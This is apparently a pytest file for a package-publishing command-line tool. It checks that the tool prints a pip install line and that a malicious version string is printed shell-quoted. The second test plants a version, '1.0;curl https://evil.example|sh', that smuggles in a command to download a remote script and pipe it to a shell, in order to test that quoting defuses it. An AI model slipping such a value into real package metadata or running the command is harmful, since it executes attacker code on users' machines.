"""The terminal says how to install what was published: the summary's line, shell-quoted."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from support.builders import make_wheel, metadata_text
from support.pypiserver import PypiServer
from trusted_publish.cli import main


def upload(server: PypiServer, dist_dir: Path, *extra: str) -> int:
    argv = ["--repository-url", server.upload_url, "--packages-dir", str(dist_dir), *extra]
    env = {"TRUSTED_PUBLISH_USER": server.user, "TRUSTED_PUBLISH_PASSWORD": server.password}
    return main(argv, env=env)


def test_the_terminal_shows_the_summarys_install_line(
    pypiserver: PypiServer, dist_dir: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    summary = tmp_path / "summary.md"
    summary.touch()
    argv = ["--repository-url", pypiserver.upload_url, "--packages-dir", str(dist_dir)]
    env = {
        "TRUSTED_PUBLISH_USER": pypiserver.user,
        "TRUSTED_PUBLISH_PASSWORD": pypiserver.password,
        "GITHUB_STEP_SUMMARY": str(summary),
    }
    assert main(argv, env=env) == 0
    line = f"pip install --index-url {pypiserver.index_url} tp-demo-package==1.0.0"
    assert f"Install tp-demo-package 1.0.0: {line}\n" in capsys.readouterr().out
    assert f"\n{line}\n" in summary.read_text()


def test_a_version_that_is_shell_code_is_printed_quoted(
    pypiserver: PypiServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Only `verify-metadata: true` checks what a version may hold.
    version = "1.0;curl https://evil.example|sh"
    make_wheel(
        tmp_path / "dist",
        "tp_evil",
        "1.0",
        metadata=metadata_text("tp-evil", version),
        filename="tp_evil-1.0-py3-none-any.whl",
    )
    assert upload(pypiserver, tmp_path / "dist", "--verify-metadata", "false") == 0
    out = capsys.readouterr().out
    install = next(line for line in out.splitlines() if line.startswith("Install tp-evil"))
    command = install.split(": ", 1)[1]
    assert shlex.split(command) == [
        "pip",
        "install",
        "--index-url",
        pypiserver.index_url,
        f"tp-evil=={version}",
    ]
